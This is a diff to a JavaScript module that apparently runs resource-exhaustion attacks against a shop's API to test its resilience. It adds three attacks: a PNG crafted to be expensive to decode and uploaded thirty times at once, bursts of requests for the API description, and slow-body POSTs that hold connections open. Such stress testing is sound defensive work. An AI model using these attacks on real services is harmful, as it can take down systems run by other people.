@@ -1,6 +1,7 @@
 // @ts-check
 import { randomBytes } from 'node:crypto';
 import { connect } from 'node:net';
+import sharp from 'sharp';
 
 /** Loops of one attack rest this long between rounds, so that they share two processors with the shop they attack. */
 const REST = 250;
@@ -12,8 +13,10 @@ const PIECE = randomBytes(1024 * 1024);
  * as the shop counts callers.
  * @param {string} url
  * @param {AbortSignal} signal
+ * @param {string} reviewToken of a link to review an order: a buyer who attacks
  */
-export function startAttacks(url, signal) {
+export async function startAttacks(url, signal, reviewToken) {
+  const preview = await interlacedPreview();
   const { hostname, port } = new URL(url);
   /** @type {Record<string, Record<string, number>>} how often each attack met which answer */
   const answers = {};
@@ -73,8 +76,41 @@ export function startAttacks(url, signal) {
     return await send('guest tokens', '/api/auth/login/guest', { caller });
   }
 
+  /** @type {{ id: string, authorization: string } | undefined} */
+  let model;
+  async function uploadedModel() {
+    const { jwt } = (await guest('203.0.113.8')) ?? {};
+    const authorization = `Bearer ${jwt}`;
+    const form = new FormData();
+    form.set('upfile', new Blob([stl(0.01)]), 'part.stl');
+    const init = { caller: '203.0.113.8', method: 'POST', body: form, headers: { authorization } };
+    const { id } = (await send('model for pictures', '/api/file', init)) ?? {};
+    return id && { id, authorization };
+  }
+
   /** @type {Record<string, () => Promise<unknown>>} */
   const attacks = {
+    'thirty pictures at once': async () => {
+      model ??= await uploadedModel();
+      if (!model) return;
+      const headers = { authorization: model.authorization, 'content-type': 'application/json' };
+      const init = { caller: '203.0.113.8', method: 'PUT', body: preview, headers };
+      const path = `/api/file/${model.id}`;
+      await Promise.all(Array.from({ length: 30 }, () => send('thirty pictures at once', path, init)));
+      await rest(5_000);
+    },
+    'the description of the API': async () => {
+      const ask = () => send('the description of the API', '/api/openapi.json', { caller: '203.0.113.9' });
+      await Promise.all(Array.from({ length: 20 }, ask));
+    },
+    'photos that never end': () =>
+      hold('photos that never end', 60, () => {
+        const to = `/api/product-reviews/pla-white/photos?token=${reviewToken}`;
+        const head = [`POST ${to} HTTP/1.1`, `host: ${hostname}`, 'content-type: image/jpeg'];
+        const length = `content-length: ${12 * PIECE.length}`;
+        const socket = connection('photos that never end', [...head, length, '\r\n'].join('\r\n'));
+        for (let sent = 0; sent < 11; sent++) socket.write(PIECE);
+      }),
     'frames of 60 MB without an end': async () => {
       if (frames >= 20) return await rest(5_000);
       frames += 1;
@@ -175,6 +211,13 @@ function stl(megabytes) {
   const bytes = Buffer.alloc(84 + triangles * 50);
   bytes.writeUInt32LE(triangles, 80);
   return bytes;
+}
+
+/** A body for a model's picture: 4 megapixels that the decoder has to hold at once, in few bytes. */
+async function interlacedPreview() {
+  const picture = sharp({ create: { width: 2000, height: 2000, channels: 4, background: '#0b5a6380' } });
+  const png = await picture.png({ progressive: true, compressionLevel: 9 }).toBuffer();
+  return JSON.stringify({ preview: { type: 'img', value: `data:image/png;base64,${png.toString('base64')}` } });
 }
 
 const ATTACKER = {
